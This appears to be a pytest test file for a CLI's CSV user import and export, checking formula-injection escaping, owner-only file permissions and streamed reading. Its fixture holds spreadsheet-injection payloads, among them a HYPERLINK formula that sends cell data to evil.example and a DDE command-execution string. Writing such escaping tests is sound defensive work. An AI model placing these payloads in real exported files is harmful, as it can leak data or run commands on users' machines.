"""CSV files through `dialconf user import` / `user export`: safe in a spreadsheet, private on disk, read as a stream."""

from __future__ import annotations

import csv
import io
import os
import shutil
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from dialconf.services import importing
from tests.conftest import ENABLE_ADA, Cli, make_uow, seed_tenant
from tests.integration.builders import OPERATOR, make_tenant

HEADER = "upn,email,name,country,provider,toll_number,toll_free_number,conference_id"
# display names a spreadsheet would run as formulas, and one that already starts with the quote
FORMULA_NAMES = {
    "eq@contoso.com": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "plus@contoso.com": "+Plus Person",
    "minus@contoso.com": "-2+3",
    "at@contoso.com": "@SUM(1+1)*cmd|' /C calc'!A0",
    "quoted@contoso.com": "'=Already Quoted",
    "plain@contoso.com": "Plain Person",
}


def fresh_cli(
    template: Path, folder: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Cli:
    folder.mkdir()
    shutil.copy(template, folder / "dialconf.db")
    cli = Cli(f"sqlite:///{folder / 'dialconf.db'}", monkeypatch, capsys)
    seed_tenant(cli)
    return cli


def source_csv(path: Path) -> Path:
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(HEADER.split(","))
        for upn, name in FORMULA_NAMES.items():
            # in a file, a quote before a formula character is taken off; a name that starts with
            # one is written with a second quote, as the export writes it
            in_file = "'" + name if name.startswith("'=") else name
            writer.writerow([upn, upn, in_file, "US", "builtin", "+14255550100", "+18005550199", ""])
        writer.writerow(
            ["tp@contoso.com", "tp@contoso.com", "Third Party", "", "third-party", "", "", "55554444"]
        )
    return path


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_export_quotes_every_cell_a_spreadsheet_would_run_and_import_takes_the_quote_off(
    sqlite_template: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    first = fresh_cli(sqlite_template, tmp_path / "first", monkeypatch, capsys)
    assert (
        first.ok("user", "import", str(source_csv(tmp_path / "users.csv")), "--tenant", "contoso")["imported"]
        == 7
    )
    exported = first("user", "export", "--tenant", "contoso")
    assert exported.code == 0, exported.err

    # no cell of the file starts with a formula character: each such one starts with the quote instead
    rows = cells(exported.out)
    for row in rows:
        for cell in row:
            assert not cell.startswith(importing.FORMULA_STARTS), row
    by_upn = {row[0]: row for row in rows[1:]}
    assert by_upn["eq@contoso.com"][2] == "'" + FORMULA_NAMES["eq@contoso.com"]
    assert by_upn["quoted@contoso.com"][2] == "''=Already Quoted"
    assert by_upn["plain@contoso.com"][2] == "Plain Person"
    # E.164 numbers start with '+': OWASP's rule quotes them too (a spreadsheet then shows the '+')
    assert by_upn["plain@contoso.com"][5:7] == ["'+14255550100", "'+18005550199"]

    # round trip: the export imported into a fresh database gives the same users, names exact
    export_file = tmp_path / "export.csv"
    export_file.write_text(exported.out, encoding="utf-8")
    second = fresh_cli(sqlite_template, tmp_path / "second", monkeypatch, capsys)
    assert second.ok("user", "import", str(export_file), "--tenant", "contoso")["imported"] == 7
    for upn, name in FORMULA_NAMES.items():
        user = second.ok("user", "show", upn)
        assert user["display_name"] == name
        assert user["toll_number"] == "+14255550100"
        assert user["conference_id"] == by_upn[upn][7]
    assert second("user", "export", "--tenant", "contoso").out == exported.out


def test_an_export_file_is_readable_by_its_owner_only_even_if_it_existed(
    sqlite_cli: Cli, tmp_path: Path
) -> None:
    seed_tenant(sqlite_cli)
    sqlite_cli.ok(*ENABLE_ADA)
    new_file, old_file = tmp_path / "new.csv", tmp_path / "old.csv"
    old_file.write_text("something longer than the export will be, so truncation shows\n" * 100)
    old_file.chmod(0o644)
    for path in (new_file, old_file):
        result = sqlite_cli("user", "export", "--tenant", "contoso", str(path))
        assert result.code == 0, result.err
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
        assert [row[0] for row in cells(path.read_text(encoding="utf-8"))] == ["upn", "ada@contoso.com"]


def test_import_reads_stdin_when_the_file_is_a_dash(sqlite_cli: Cli) -> None:
    seed_tenant(sqlite_cli)
    text = "\ufeffupn,email,name\nada@contoso.com,ada@contoso.com,Ada Lovelace\n"
    report = sqlite_cli.ok("user", "import", "-", "--tenant", "contoso", stdin=text)
    assert report["imported"] == 1
    assert sqlite_cli.ok("user", "show", "ada@contoso.com")["display_name"] == "Ada Lovelace"


class Lines:
    """The lines of a CSV file, noting how many were taken: what a file object gives the reader."""

    def __init__(self, count: int) -> None:
        self.count = count
        self.taken = 0

    def __iter__(self) -> Iterator[str]:
        self.taken += 1
        yield "upn,email,name\n"
        for i in range(self.count):
            self.taken += 1
            yield f"u{i}@contoso.com,u{i}@contoso.com,User {i}\n"


def test_read_csv_takes_lines_only_as_rows_are_consumed(sqlite_url: str) -> None:
    lines = Lines(500)
    rows = importing.read_csv(lines)
    assert lines.taken == 1  # the header, checked at once; no row yet

    uow = make_uow(sqlite_url)
    make_tenant(uow, toll_free=None)
    report = importing.import_users(uow, tenant="contoso", rows=rows, actor=OPERATOR, dry_run=True)
    assert (report.rows, lines.taken) == (500, 501)
